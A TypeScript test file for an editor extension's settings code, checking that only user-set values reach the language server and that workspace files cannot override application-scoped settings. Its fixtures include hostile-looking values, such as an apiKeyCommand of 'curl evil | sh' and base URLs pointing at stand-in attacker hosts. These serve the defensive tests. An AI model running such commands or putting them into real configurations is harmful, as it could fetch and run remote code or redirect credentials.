import { describe, expect, it } from "vitest";
import {
  answerConfiguration,
  editorValues,
  envName,
  removedSinceStart,
  sameValues,
  serverSettings,
  userOnlyEnvironment,
  userValues,
  type Inspected,
  type SettingSpec,
} from "../src/settings";

/** `WorkspaceConfiguration.inspect` over user / workspace / folder values; defaults aside. */
function config(layers: Record<string, Inspected & { defaultValue?: unknown }>) {
  return { inspect: (name: string) => layers[name] ?? { defaultValue: "whatever" } };
}

const SPECS: SettingSpec[] = [
  { name: "baseUrl", scope: "application" },
  { name: "apiKeyCommand", scope: "application" },
  { name: "model", scope: "window" },
  { name: "maxTokens", scope: "window" },
  { name: "temperature", scope: "window" },
];

describe("userValues: only what the user set", () => {
  it("sends nothing when nothing is set, whatever the defaults", () => {
    const untouched = config({
      maxTokens: { defaultValue: 4096 },
      baseUrl: { defaultValue: "https://api.ren.ai" },
    });
    expect(userValues(untouched, SPECS)).toEqual({});
  });

  it("sends user values, and workspace values over them", () => {
    const values = userValues(
      config({
        maxTokens: { defaultValue: 4096, globalValue: 8192 },
        model: { defaultValue: "astra", globalValue: "astra", workspaceValue: "astra-mini" },
      }),
      SPECS,
    );
    expect(values).toEqual({ maxTokens: 8192, model: "astra-mini" });
  });

  it("takes application settings from the user only: a repository cannot redirect the key", () => {
    const values = userValues(
      config({
        baseUrl: { workspaceValue: "http://attacker.example", workspaceFolderValue: "http://x" },
        apiKeyCommand: { globalValue: "pass show ren", workspaceValue: "curl evil | sh" },
      }),
      SPECS,
    );
    expect(values).toEqual({ apiKeyCommand: "pass show ren" });
  });

  it("keeps an explicit null (the server reads it as not set) rather than falling through", () => {
    const values = userValues(config({ temperature: { globalValue: 0.2, workspaceValue: null } }), SPECS);
    expect(values).toEqual({ temperature: null });
  });

  it("sends only the settings it is given (never apiKey, never the extension's own)", () => {
    const specs = serverSettings({
      "ren.maxTokens": { scope: "window" },
      "ren.baseUrl": { scope: "application" },
      "ren.server.path": { scope: "machine" },
      "ren.server.python": { scope: "machine" },
      "ren.trace.server": { scope: "window" },
      "other.setting": { scope: "window" },
    });
    expect(specs).toEqual([
      { name: "maxTokens", scope: "window" },
      { name: "baseUrl", scope: "application" },
    ]);
    const values = userValues(
      config({ apiKey: { globalValue: "ren-secret" }, "server.path": { globalValue: "/bin/ren-lsp" } }),
      specs,
    );
    expect(values).toEqual({});
  });
});

describe("what the server needs on a change", () => {
  it("finds settings removed since the server started (they need a restart)", () => {
    expect(removedSinceStart({ maxTokens: 8192, model: "m" }, { model: "m2" })).toEqual(["maxTokens"]);
    expect(removedSinceStart({ maxTokens: 8192 }, { maxTokens: 100, model: "m" })).toEqual([]);
    expect(removedSinceStart({ temperature: null }, {})).toEqual([]);
  });

  it("compares values regardless of key order", () => {
    expect(sameValues({ a: 1, b: [2] }, { b: [2], a: 1 })).toBe(true);
    expect(sameValues({ a: 1 }, { a: 2 })).toBe(false);
    expect(sameValues({ a: 1 }, { a: 1, b: null })).toBe(false);
  });

  it("answers workspace/configuration for `ren` with the user's values only", () => {
    const defaults = [{ maxTokens: 4096, server: { path: "" } }, { tabSize: 4 }];
    const answers = answerConfiguration([{ section: "ren" }, { section: "editor" }], defaults, { maxTokens: 8192 });
    expect(answers).toEqual([{ maxTokens: 8192 }, { tabSize: 4 }]);
  });
});

describe("user-only settings go in the server's environment, never to the editor layers", () => {
  const layers = config({
    baseUrl: { globalValue: "http://127.0.0.1:8765", workspaceValue: "https://evil.invalid" },
    apiKeyCommand: { workspaceValue: "curl evil.invalid" },
    model: { workspaceValue: "astra-mini" },
    maxTokens: { globalValue: 512 },
  });

  it("sends only window-scoped values to the editor layers", () => {
    expect(editorValues(layers, SPECS)).toEqual({ model: "astra-mini", maxTokens: 512 });
  });

  it("hands the user's own values of user-only settings over as REN_* variables", () => {
    expect(userOnlyEnvironment(layers, SPECS)).toEqual({ REN_BASE_URL: "http://127.0.0.1:8765" });
    const lists = config({ "agent.allowedCommands": { globalValue: ["pytest", "npm test"] } });
    expect(userOnlyEnvironment(lists, [{ name: "agent.allowedCommands", scope: "application" }])).toEqual({
      REN_AGENT_ALLOWED_COMMANDS: '["pytest","npm test"]',
    });
  });

  it("names variables as the server does", () => {
    expect(envName("apiKeyCommand")).toBe("REN_API_KEY_COMMAND");
    expect(envName("forge.apiUrl")).toBe("REN_FORGE_API_URL");
  });
});
